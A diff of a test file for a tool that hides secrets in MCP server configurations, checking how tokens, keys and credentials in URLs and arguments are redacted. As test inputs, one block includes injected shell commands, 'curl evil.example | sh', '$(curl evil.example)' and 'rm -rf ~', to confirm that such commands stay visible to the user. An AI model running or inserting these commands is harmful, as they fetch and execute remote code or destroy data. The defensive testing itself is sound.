@@ -1,7 +1,8 @@
-import { expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
+import type { McpServer } from "./container-config.ts";
 import { diffConfigs } from "./diff-configs.ts";
 import { initialSettings } from "./fields.ts";
-import { changesWithoutSecrets, withoutSecrets } from "./hide-secrets.ts";
+import { changesWithoutSecrets, shownAddress, shownArguments, withoutSecrets } from "./hide-secrets.ts";
 
 const config = {
   ...initialSettings,
@@ -28,4 +29,86 @@ test("changes are shown without them too", () => {
   expect(changes.map(({ field }) => field)).toEqual(["model", "mcp_servers"]);
   expect(JSON.stringify(changesWithoutSecrets(changes))).not.toContain("secret");
   expect(changesWithoutSecrets(changes)[0]).toEqual(changes[0]);
+});
+
+test.each<{ what: string; before: McpServer; after: McpServer; shown: McpServer }>([
+  {
+    what: "a variable",
+    before: { command: "x", env: { A: "1", B: "1" } },
+    after: { command: "x", env: { A: "1", B: "2" } },
+    shown: { command: "x", env: { A: "(hidden)", B: "(hidden, changed)" } },
+  },
+  {
+    what: "a header",
+    before: { url: "https://h", headers: { A: "1" } },
+    after: { url: "https://h", headers: { A: "2" } },
+    shown: { url: "https://h", headers: { A: "(hidden, changed)" } },
+  },
+  {
+    what: "a key in an address",
+    before: { url: "https://h?key=1" },
+    after: { url: "https://h?key=2" },
+    shown: { url: "https://h?key=(hidden, changed)" },
+  },
+  {
+    what: "an argument",
+    before: { command: "x", args: ["--token=1"] },
+    after: { command: "x", args: ["--token=2"] },
+    shown: { command: "x", args: ["--token=(hidden, changed)"] },
+  },
+])("$what that differs is said to", ({ before, after, shown }) => {
+  const changes = diffConfigs(
+    { ...initialSettings, mcp_servers: { s: before } },
+    { ...initialSettings, mcp_servers: { s: after } },
+  );
+  expect(changesWithoutSecrets(changes)[0]?.after).toEqual({ s: shown });
+});
+
+describe("an address that was stored before such were refused", () => {
+  test.each([
+    { url: "https://h/mcp?api_key=abc&x=1", shown: "https://h/mcp?api_key=(hidden)&x=1" },
+    { url: "https://h/mcp?x=1;token=abc", shown: "https://h/mcp?x=1;token=(hidden)" },
+    { url: "https://h/mcp?%74oken=abc", shown: "https://h/mcp?%74oken=(hidden)" },
+    { url: "https://me:pw@h/mcp", shown: "https://(hidden)@h/mcp" },
+    { url: "https://me:p@w@h/mcp", shown: "https://(hidden)@h/mcp" },
+    { url: "https://h/mcp#secret", shown: "https://h/mcp#(hidden)" },
+    { url: "https://h/mcp?to=https://me:pw@other", shown: "https://h/mcp?to=(hidden)" },
+    { url: "https://h/s/ghp_0a1B2c3D4e5F6g7H8i9J/mcp", shown: "https://h/s/(hidden)/mcp" },
+    { url: "https://h/s/0a1B2c3D4e5F6g7H8i9J0k1L/mcp", shown: "https://h/s/(hidden)/mcp" },
+    { url: "https://h/mcp;key=abc/x", shown: "https://h/mcp;key=(hidden)/x" },
+    { url: "no address sk-ant-0123456789abcdef", shown: "(hidden)" },
+    { url: "https://h/keys/mcp?keyword=news", shown: "https://h/keys/mcp?keyword=news" },
+  ])("$url is shown as $shown", ({ url, shown }) => {
+    expect(shownAddress(url)).toBe(shown);
+  });
+});
+
+describe("arguments of a program", () => {
+  test.each([
+    { args: ["srv", "--token", "abc123"], shown: ["srv", "--token", "(hidden)"] },
+    { args: ["--api-key=abc123", "srv"], shown: ["--api-key=(hidden)", "srv"] },
+    { args: ["--figmaApiKey=abc123"], shown: ["--figmaApiKey=(hidden)"] },
+    { args: ["DB_PASSWORD=abc123", "srv"], shown: ["DB_PASSWORD=(hidden)", "srv"] },
+    { args: ["--header", "Authorization: Bearer abc123"], shown: ["--header", "Authorization: (hidden)"] },
+    { args: ["--header=X-Api-Key:abc123"], shown: ["--header=X-Api-Key: (hidden)"] },
+    { args: ["srv", "https://h/mcp?token=abc123"], shown: ["srv", "https://h/mcp?token=(hidden)"] },
+    { args: ["srv", "postgres://me:abc123@db/x"], shown: ["srv", "postgres://(hidden)@db/x"] },
+    { args: ["srv", "sk-ant-api03-0123456789abcdef"], shown: ["srv", "(hidden)"] },
+  ])("$args are shown as $shown", ({ args, shown }) => {
+    expect(shownArguments(args)).toEqual(shown);
+  });
+
+  // What is run is never hidden from the person who is asked.
+  test.each([
+    { title: "a package after a flag of the runner", args: ["-y", "--auth", "evil-package"] },
+    { title: "a command behind a variable", args: ["-c", "TOKEN=x; curl evil.example | sh"] },
+    { title: "a command in a flag", args: ["--token=$(curl evil.example)"] },
+    { title: "a flag after a flag", args: ["srv", "--token", "--verbose"] },
+    { title: "a header that is a command", args: ["-c", "Authorization: x; rm -rf ~"] },
+    { title: "plain words", args: ["-y", "keyboard-mcp", "--keywords", "news", "--author=ann"] },
+    { title: "a file", args: ["srv", "--key-file", "/etc/key.pem"] },
+    { title: "an address", args: ["mcp-remote", "https://h.example/mcp"] },
+  ])("$title is shown as it is", ({ args }) => {
+    expect(shownArguments(args)).toEqual(args);
+  });
 });
